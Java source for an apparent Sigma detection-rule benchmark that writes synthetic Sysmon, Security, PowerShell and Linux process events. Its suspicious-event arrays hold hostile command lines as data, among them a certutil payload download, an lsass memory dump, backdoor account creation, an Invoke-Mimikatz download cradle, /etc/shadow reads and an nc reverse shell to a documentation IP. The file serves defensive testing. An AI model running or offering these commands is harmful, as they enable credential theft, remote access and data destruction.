package io.detectionhub.sigma.evaluation.benchmark;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.format.DateTimeFormatter;
import java.time.ZoneOffset;
import java.util.Random;

/**
 * Writes a deterministic event file (same seed, same bytes): Windows events in the evtx_dump JSON shape (Sysmon
 * process creation, network, file, registry and image load; Security logons and process creation; PowerShell script
 * blocks) and flat Linux process events. About 2% are built to match well-known SigmaHQ rules (whoami, certutil
 * download, encoded PowerShell, comsvcs MiniDump, shadow file access...).
 */
public final class EventGenerator {

    private static final String[] USERS = {"CORP\\alice", "CORP\\bob", "CORP\\carol", "NT AUTHORITY\\SYSTEM",
            "CORP\\svc_backup", "CORP\\dave.admin"};
    private static final String[] HOSTS = {"WS-0142.corp.local", "WS-0077.corp.local", "SRV-DB01.corp.local",
            "SRV-APP03.corp.local", "DC01.corp.local"};
    private static final String[][] BENIGN = {
            {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    "C:\\Windows\\System32\\services.exe"},
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US "
                            + "--field-trial-handle=1788,i,9812736451",
                    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"},
            {"C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "C:\\Windows\\System32\\userinit.exe"},
            {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
                    "C:\\Windows\\explorer.exe"},
            {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
                    "C:\\Windows\\System32\\svchost.exe"},
            {"C:\\Program Files\\7-Zip\\7z.exe", "\"C:\\Program Files\\7-Zip\\7z.exe\" x report_2024.zip -oC:\\Temp",
                    "C:\\Windows\\explorer.exe"},
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -NoProfile -Command Get-Service | Where-Object Status -eq Running",
                    "C:\\Windows\\explorer.exe"},
    };
    private static final String[][] SUSPICIOUS = {
            {"C:\\Windows\\System32\\whoami.exe", "whoami /all", "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
                    "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi"
                            + "AEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A",
                    "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\rundll32.exe",
                    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
                    "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\net.exe", "net user /add backdoor P@ssw0rd!", "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
                    "C:\\Windows\\System32\\cmd.exe"},
            {"C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\Temp\\sam.save",
                    "C:\\Windows\\System32\\cmd.exe"},
    };
    private static final String[][] LINUX_BENIGN = {
            {"/usr/bin/bash", "bash -c ls -la /var/log", "/usr/sbin/sshd"},
            {"/usr/bin/python3", "python3 /opt/app/manage.py runserver 0.0.0.0:8000", "/usr/bin/bash"},
            {"/usr/sbin/cron", "/usr/sbin/CRON -f", "/usr/sbin/cron"},
            {"/usr/bin/apt-get", "apt-get update -q", "/usr/bin/sudo"},
            {"/usr/bin/git", "git pull --ff-only origin main", "/usr/bin/bash"},
    };
    private static final String[][] LINUX_SUSPICIOUS = {
            {"/usr/bin/cat", "cat /etc/shadow", "/usr/bin/bash"},
            {"/usr/bin/base64", "base64 -d /tmp/x.b64", "/usr/bin/bash"},
            {"/usr/bin/nc", "nc -e /bin/sh 203.0.113.5 4444", "/usr/bin/bash"},
            {"/usr/bin/chmod", "chmod +s /tmp/.hidden/sh", "/usr/bin/bash"},
    };

    private final Random random;
    private Instant time = Instant.parse("2024-05-01T08:00:00Z");
    private long record = 1_000_000;

    public EventGenerator(long seed) {
        this.random = new Random(seed);
    }

    public static void write(Path file, int count, long seed) throws IOException {
        EventGenerator g = new EventGenerator(seed);
        try (Writer w = new BufferedWriter(Files.newBufferedWriter(file, StandardCharsets.UTF_8), 1 << 16)) {
            w.write("[\n");
            for (int i = 0; i < count; i++) {
                if (i > 0) {
                    w.write(",\n");
                }
                w.write(g.next());
            }
            w.write("\n]\n");
        }
    }

    public String next() {
        time = time.plusMillis(50 + random.nextInt(400));
        record++;
        int kind = random.nextInt(100);
        boolean suspicious = random.nextInt(50) == 0;
        if (kind < 35) {
            return sysmonProcess(suspicious);
        } else if (kind < 45) {
            return sysmonNetwork();
        } else if (kind < 55) {
            return sysmonFile();
        } else if (kind < 62) {
            return sysmonRegistry();
        } else if (kind < 68) {
            return sysmonImageLoad();
        } else if (kind < 78) {
            return securityLogon();
        } else if (kind < 83) {
            return powershellScript(suspicious);
        } else {
            return linuxProcess(suspicious);
        }
    }

    private String pick(String[] a) {
        return a[random.nextInt(a.length)];
    }

    private String[] pick(String[][] a) {
        return a[random.nextInt(a.length)];
    }

    private static String json(String s) {
        StringBuilder sb = new StringBuilder(s.length() + 8).append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            switch (c) {
                case '"' -> sb.append("\\\"");
                case '\\' -> sb.append("\\\\");
                case '\n' -> sb.append("\\n");
                default -> sb.append(c);
            }
        }
        return sb.append('"').toString();
    }

    private String guid() {
        return String.format("{%08x-%04x-%04x-%04x-%012x}", random.nextInt(), random.nextInt(0x10000),
                random.nextInt(0x10000), random.nextInt(0x10000), random.nextLong() & 0xFFFFFFFFFFFFL);
    }

    private String utc() {
        return DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS").withZone(ZoneOffset.UTC).format(time);
    }

    private String system(String provider, String providerGuid, int eventId, String channel) {
        return "\"System\":{\"Provider\":{\"#attributes\":{\"Name\":" + json(provider) + ",\"Guid\":"
                + json(providerGuid) + "}},\"EventID\":" + eventId + ",\"Version\":5,\"Level\":4,\"Task\":" + eventId
                + ",\"Opcode\":0,\"Keywords\":\"0x8000000000000000\",\"TimeCreated\":{\"#attributes\":"
                + "{\"SystemTime\":\"" + time + "\"}},\"EventRecordID\":" + record + ",\"Correlation\":null,"
                + "\"Execution\":{\"#attributes\":{\"ProcessID\":" + (1000 + random.nextInt(4000))
                + ",\"ThreadID\":" + (1000 + random.nextInt(9000)) + "}},\"Channel\":" + json(channel)
                + ",\"Computer\":" + json(pick(HOSTS)) + ",\"Security\":{\"#attributes\":{\"UserID\":\"S-1-5-18\"}}}";
    }

    private String sysmon(int eventId, String eventData) {
        return "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},"
                + system("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", eventId,
                "Microsoft-Windows-Sysmon/Operational") + ",\"EventData\":{" + eventData + "}}}";
    }

    private String sysmonProcess(boolean suspicious) {
        String[] p = suspicious ? pick(SUSPICIOUS) : pick(BENIGN);
        String image = p[0];
        String name = image.substring(image.lastIndexOf('\\') + 1);
        return sysmon(1, "\"RuleName\":\"-\",\"UtcTime\":" + json(utc()) + ",\"ProcessGuid\":" + json(guid())
                + ",\"ProcessId\":" + random.nextInt(20000) + ",\"Image\":" + json(image)
                + ",\"FileVersion\":\"10.0.19041.1 (WinBuild.160101.0800)\",\"Description\":" + json(name)
                + ",\"Product\":\"Microsoft® Windows® Operating System\",\"Company\":\"Microsoft Corporation\","
                + "\"OriginalFileName\":" + json(name) + ",\"CommandLine\":" + json(p[1])
                + ",\"CurrentDirectory\":\"C:\\\\Windows\\\\system32\\\\\",\"User\":" + json(pick(USERS))
                + ",\"LogonGuid\":" + json(guid()) + ",\"LogonId\":\"0x3e7\",\"TerminalSessionId\":1,"
                + "\"IntegrityLevel\":\"High\",\"Hashes\":\"SHA256=" + Long.toHexString(random.nextLong())
                + Long.toHexString(random.nextLong()) + "\",\"ParentProcessGuid\":" + json(guid())
                + ",\"ParentProcessId\":" + random.nextInt(20000) + ",\"ParentImage\":" + json(p[2])
                + ",\"ParentCommandLine\":" + json(p[2]) + ",\"ParentUser\":" + json(pick(USERS)));
    }

    private String sysmonNetwork() {
        String[] p = pick(BENIGN);
        return sysmon(3, "\"RuleName\":\"-\",\"UtcTime\":" + json(utc()) + ",\"ProcessGuid\":" + json(guid())
                + ",\"ProcessId\":" + random.nextInt(20000) + ",\"Image\":" + json(p[0]) + ",\"User\":"
                + json(pick(USERS)) + ",\"Protocol\":\"tcp\",\"Initiated\":\"true\",\"SourceIsIpv6\":\"false\","
                + "\"SourceIp\":\"10.0." + random.nextInt(255) + "." + random.nextInt(255) + "\",\"SourceHostname\":"
                + json(pick(HOSTS)) + ",\"SourcePort\":" + (49152 + random.nextInt(16000))
                + ",\"DestinationIsIpv6\":\"false\",\"DestinationIp\":\"" + (random.nextBoolean() ? "52.96." : "10.1.")
                + random.nextInt(255) + "." + random.nextInt(255) + "\",\"DestinationHostname\":\"\","
                + "\"DestinationPort\":" + (random.nextBoolean() ? 443 : 445) + ",\"DestinationPortName\":\"https\"");
    }

    private String sysmonFile() {
        String[] p = pick(BENIGN);
        String target = random.nextBoolean()
                ? "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp" + Integer.toHexString(random.nextInt()) + ".tmp"
                : "C:\\Users\\bob\\Documents\\report_" + random.nextInt(999) + ".docx";
        return sysmon(11, "\"RuleName\":\"-\",\"UtcTime\":" + json(utc()) + ",\"ProcessGuid\":" + json(guid())
                + ",\"ProcessId\":" + random.nextInt(20000) + ",\"Image\":" + json(p[0]) + ",\"TargetFilename\":"
                + json(target) + ",\"CreationUtcTime\":" + json(utc()) + ",\"User\":" + json(pick(USERS)));
    }

    private String sysmonRegistry() {
        String[] p = pick(BENIGN);
        return sysmon(13, "\"RuleName\":\"-\",\"EventType\":\"SetValue\",\"UtcTime\":" + json(utc())
                + ",\"ProcessGuid\":" + json(guid()) + ",\"ProcessId\":" + random.nextInt(20000) + ",\"Image\":"
                + json(p[0]) + ",\"TargetObject\":" + json("HKU\\S-1-5-21-1004336348-1177238915-682003330-1001\\"
                + "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx\\" + random.nextInt(40))
                + ",\"Details\":\"Binary Data\",\"User\":" + json(pick(USERS)));
    }

    private String sysmonImageLoad() {
        String[] p = pick(BENIGN);
        String dll = pick(new String[] {"C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\kernel32.dll",
                "C:\\Windows\\System32\\wininet.dll", "C:\\Windows\\System32\\crypt32.dll"});
        return sysmon(7, "\"RuleName\":\"-\",\"UtcTime\":" + json(utc()) + ",\"ProcessGuid\":" + json(guid())
                + ",\"ProcessId\":" + random.nextInt(20000) + ",\"Image\":" + json(p[0]) + ",\"ImageLoaded\":"
                + json(dll) + ",\"FileVersion\":\"10.0.19041.1\",\"Description\":\"Windows NT BASE API Client DLL\","
                + "\"Product\":\"Microsoft® Windows® Operating System\",\"Company\":\"Microsoft Corporation\","
                + "\"OriginalFileName\":\"kernel32\",\"Hashes\":\"SHA256=" + Long.toHexString(random.nextLong())
                + "\",\"Signed\":\"true\",\"Signature\":\"Microsoft Windows\",\"SignatureStatus\":\"Valid\","
                + "\"User\":" + json(pick(USERS)));
    }

    private String securityLogon() {
        boolean failed = random.nextInt(4) == 0;
        String user = pick(USERS);
        user = user.substring(user.indexOf('\\') + 1);
        return "{\"Event\":{" + system("Microsoft-Windows-Security-Auditing",
                "{54849625-5478-4994-a5ba-3e3b0328c30d}", failed ? 4625 : 4624, "Security")
                + ",\"EventData\":{\"SubjectUserSid\":\"S-1-5-18\",\"SubjectUserName\":\"WS-0142$\","
                + "\"SubjectDomainName\":\"CORP\",\"SubjectLogonId\":\"0x3e7\",\"TargetUserSid\":\"S-1-5-21-1-2-3-"
                + random.nextInt(3000) + "\",\"TargetUserName\":" + json(user) + ",\"TargetDomainName\":\"CORP\","
                + "\"LogonType\":" + pick(new String[] {"2", "3", "10"}) + ",\"LogonProcessName\":\"User32 \","
                + "\"AuthenticationPackageName\":\"Negotiate\",\"WorkstationName\":\"WS-0142\","
                + "\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\",\"IpAddress\":\"10.0."
                + random.nextInt(255) + "." + random.nextInt(255) + "\",\"IpPort\":\"0\""
                + (failed ? ",\"Status\":\"0xc000006d\",\"SubStatus\":\"0xc000006a\"" : "") + "}}}";
    }

    private String powershellScript(boolean suspicious) {
        String script = suspicious
                ? "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Invoke-Mimikatz.ps1'); "
                + "Invoke-Mimikatz -DumpCreds"
                : "Get-ChildItem -Path C:\\Users\\alice\\Documents -Filter *.docx | Select-Object Name, Length";
        return "{\"Event\":{" + system("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
                4104, "Microsoft-Windows-PowerShell/Operational") + ",\"EventData\":{\"MessageNumber\":1,"
                + "\"MessageTotal\":1,\"ScriptBlockText\":" + json(script) + ",\"ScriptBlockId\":" + json(guid())
                + ",\"Path\":\"\"}}}";
    }

    private String linuxProcess(boolean suspicious) {
        String[] p = suspicious ? pick(LINUX_SUSPICIOUS) : pick(LINUX_BENIGN);
        return "{\"@timestamp\":\"" + time + "\",\"host\":{\"name\":\"web-0" + random.nextInt(9)
                + "\",\"os\":{\"type\":\"linux\"}},\"Image\":" + json(p[0]) + ",\"CommandLine\":" + json(p[1])
                + ",\"ParentImage\":" + json(p[2]) + ",\"User\":\"" + pick(new String[] {"root", "www-data", "deploy"})
                + "\",\"ProcessId\":" + random.nextInt(65000) + ",\"ParentProcessId\":" + random.nextInt(65000)
                + ",\"CurrentDirectory\":\"/home/deploy\",\"LogonId\":" + random.nextInt(2000) + "}";
    }
}
